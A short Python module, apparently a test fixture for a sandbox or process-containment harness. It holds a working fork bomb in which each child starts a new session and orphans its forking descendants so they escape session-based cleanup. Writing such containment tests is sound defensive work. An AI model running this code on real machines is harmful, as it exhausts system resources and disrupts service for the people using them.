"""As `fork_bomb`, each child in a session of its own and its parent gone."""

import os
import time


def _attack(messages):
    end = time.monotonic() + 3
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork():
                    os._exit(0)
        except OSError:
            pass
    time.sleep(60)
